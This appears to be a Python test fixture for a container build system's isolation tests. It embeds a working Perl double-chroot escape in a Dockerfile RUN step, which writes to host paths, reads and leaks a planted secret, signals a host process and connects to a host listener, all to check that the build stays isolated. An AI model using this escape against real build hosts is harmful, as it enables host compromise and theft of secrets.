"""A hostile task image: its RUN step breaks out with a double chroot and goes for the host.

The step's perl (in every Debian image) makes a directory, chroots into it with its cwd
left outside, climbs `..` far past any root, and chroots to where it lands: with a
chroot-isolated build run by root, that is the host's `/`. From there it (a) writes a
marker at a host path the test chose, (b) reads a secret file the test planted and hands
it back to be stored in the image and printed in the build log, (c) sees and signals a
host process the test started, and (d) connects to a listener the test opened on the
host's 127.0.0.1 (in the build's own namespace when isolated: 127.0.0.1 is then its own).
Each result is one line, `ATTACK <what> <yes|no>`, in the build log and in the image's
/attack-report.txt; what it read is in the image's /leaked.txt.
"""

from __future__ import annotations

import re
import secrets
import socket
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

ATTACK_PL = r"""
use strict; use warnings; use IO::Socket::INET;
my ($marker, $secret, $pid, $port) = @ARGV;
pipe(my $rd, my $wr) or die "pipe: $!";
my $child = fork();
if ($child == 0) {
    close $rd;
    mkdir "x"; chroot "x"; chdir ".." for 1 .. 64; chroot ".";
    my $w = open(my $f, ">", $marker) ? 1 : 0;
    if ($w) { print $f "escaped\n"; close $f; }
    my $s = "";
    if (open(my $g, "<", $secret)) { local $/; $s = <$g>; }
    my $saw = -e "/proc/$pid" ? 1 : 0;
    my $sig = kill(0, $pid) ? 1 : 0;
    kill("TERM", $pid) if $sig;
    my $c = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => $port, Timeout => 5);
    print $wr "wrote=$w saw=$saw signalled=$sig connected=" . ($c ? 1 : 0) . "\n$s";
    exit 0;
}
close $wr;
my $report = <$rd>; my $leak = do { local $/; <$rd> } // "";
waitpid($child, 0);
my %r = $report =~ /(\w+)=(\d)/g;
open(my $rep, ">", "/attack-report.txt") or die;
for my $k (qw(wrote saw signalled connected)) {
    my $line = sprintf "ATTACK %s %s\n", $k, ($r{$k} ? "yes" : "no");
    print $line; print $rep $line;
}
close $rep;
print "LEAKED:$leak\n" if length $leak;
open(my $o, ">", "/leaked.txt") or die; print $o $leak; close $o;
"""

DOCKERFILE = """\
FROM debian:bookworm-slim
COPY attack.pl /attack.pl
RUN perl /attack.pl {marker} {secret} {pid} {port}
"""


@dataclass
class HostBait:
    """What the attack goes for on the host, and how the test tells it was reached."""

    marker: Path
    secret: Path
    secret_text: str
    victim: subprocess.Popen[bytes]
    listener: socket.socket

    def connections(self) -> int:
        """Connections the listener got (it never accepts before this)."""
        self.listener.setblocking(False)
        n = 0
        while True:
            try:
                conn, _ = self.listener.accept()
            except BlockingIOError:
                return n
            conn.close()
            n += 1


@contextmanager
def host_bait(root: Path) -> Iterator[HostBait]:
    root.mkdir(parents=True, exist_ok=True)
    secret_text = f"host-secret-{secrets.token_hex(16)}"
    secret = root / "planted-secret.txt"
    secret.write_text(secret_text)
    victim = subprocess.Popen(["cat"], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL)
    listener = socket.create_server(("127.0.0.1", 0))
    try:
        yield HostBait(root / "escaped-marker", secret, secret_text, victim, listener)
    finally:
        listener.close()
        victim.kill()
        victim.wait()


def hostile_env(where: Path, bait: HostBait) -> Path:
    """An environment/ folder (new digest each time) whose build runs the attack."""
    env = where / f"env-{secrets.token_hex(4)}"
    env.mkdir(parents=True)
    (env / "attack.pl").write_text(ATTACK_PL)
    port = bait.listener.getsockname()[1]
    (env / "Dockerfile").write_text(
        DOCKERFILE.format(marker=bait.marker, secret=bait.secret, pid=bait.victim.pid, port=port)
    )
    return env


def attack_results(log: str) -> dict[str, str]:
    return dict(re.findall(r"ATTACK (\w+) (yes|no)", log))


NOTHING_REACHED = {"wrote": "no", "saw": "no", "signalled": "no", "connected": "no"}
